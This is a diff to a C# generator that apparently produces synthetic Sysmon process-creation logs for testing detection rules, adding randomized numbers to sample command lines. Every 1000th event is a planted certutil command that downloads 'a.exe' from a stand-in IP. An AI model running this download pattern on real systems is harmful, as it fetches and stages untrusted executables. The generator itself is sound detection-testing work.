@@ -11,13 +11,14 @@ internal static class MixedEvents
     private static readonly EventKind Activity = new("", "Azure activity", AsimSchema.None, new LogSource(null, "azure", "activitylogs"));
     private static readonly EventKind CloudTrail = new("", "CloudTrail", AsimSchema.None, new LogSource(null, "aws", "cloudtrail"));
 
+    // Command lines hardly ever come again as they were: "#" is a number that is new each time.
     private static readonly (string Image, string Original, string Arguments, string Parent)[] Programs =
     [
         (@"C:\\Windows\\System32\\svchost.exe", "svchost.exe", "-k netsvcs -p -s Schedule", @"C:\\Windows\\System32\\services.exe"),
-        (@"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "--type=renderer --field-trial-handle=1816,i,1402,131072 --lang=en-US", @"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
-        (@"C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", @"/c \""C:\\Tools\\nightly\\backup.bat\""", @"C:\\Windows\\explorer.exe"),
-        (@"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", @"-File C:\\Scripts\\inventory.ps1 -Site Berlin", @"C:\\Windows\\explorer.exe"),
-        (@"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", @"/n \""C:\\Users\\anna\\Documents\\offer.docx\"" /o \""\""", @"C:\\Windows\\explorer.exe"),
+        (@"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "--type=renderer --field-trial-handle=#,i,1402,131072 --lang=en-US", @"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
+        (@"C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", @"/c \""C:\\Tools\\nightly\\backup.bat\"" #", @"C:\\Windows\\explorer.exe"),
+        (@"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", @"-File C:\\Scripts\\inventory.ps1 -Site Berlin -Run #", @"C:\\Windows\\explorer.exe"),
+        (@"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", @"/n \""C:\\Users\\anna\\Documents\\offer-#.docx\"" /o \""\""", @"C:\\Windows\\explorer.exe"),
         (@"C:\\Windows\\System32\\RuntimeBroker.exe", "RuntimeBroker.exe", "-Embedding", @"C:\\Windows\\System32\\svchost.exe"),
         (@"C:\\Windows\\System32\\conhost.exe", "CONHOST.EXE", "0xffffffff -ForceV1", @"C:\\Program Files\\Git\\cmd\\git.exe"),
     ];
@@ -47,6 +48,7 @@ internal static class MixedEvents
         // One in 250 is what rules are for.
         if (n % 1000 == 0)
             (image, original, arguments) = (@"C:\\Windows\\System32\\certutil.exe", "CertUtil.exe", "-urlcache -split -f http://203.0.113.9/a.txt a.exe");
+        arguments = arguments.Replace("#", random.Next(100_000).ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal);
         return string.Create(CultureInfo.InvariantCulture,
             $$"""{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"UtcTime":"{{Time(n)}}","Computer":"ws-{{random.Next(500)}}.corp.example.com","ProcessId":{{random.Next(400, 30000)}},"Image":"{{image}}","OriginalFileName":"{{original}}","CommandLine":"\"{{image}}\" {{arguments}}","CurrentDirectory":"C:\\Windows\\system32\\","User":"CORP\\user{{random.Next(900)}}","IntegrityLevel":"Medium","Hashes":"SHA256={{Hex(random, 64)}}","ParentProcessId":{{random.Next(400, 30000)}},"ParentImage":"{{parent}}","ParentCommandLine":"{{parent}}"}""");
     }
